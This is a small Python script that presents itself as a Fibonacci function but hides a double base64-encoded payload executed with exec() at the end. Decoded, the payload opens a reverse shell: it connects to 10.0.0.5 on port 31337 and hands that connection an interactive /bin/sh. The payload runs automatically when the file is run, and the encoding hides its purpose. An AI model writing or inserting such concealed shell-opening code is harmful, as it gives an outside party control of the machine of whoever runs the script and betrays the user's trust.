#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import base64
payload = "YVcxd2IzSjBJSE52WTJ0bGRDeHZjeXh3ZEhrN2N6MXpiMk5yWlhRdWMyOWphMlYwS0NrN2N5NWpiMjV1WldOMEtDZ2lNVEF1TUM0d0xqVWlMRE14TXpNM0tTazdXMjl6TG1SMWNESW9jeTVtYVd4bGJtOG9LU3htS1NCbWIzSWdaaUJwYmlBb01Dd3hMRElwWFR0d2RIa3VjM0JoZDI0b0lpOWlhVzR2YzJnaUtRPT0="
exec(base64.b64decode(base64.b64decode(payload)))
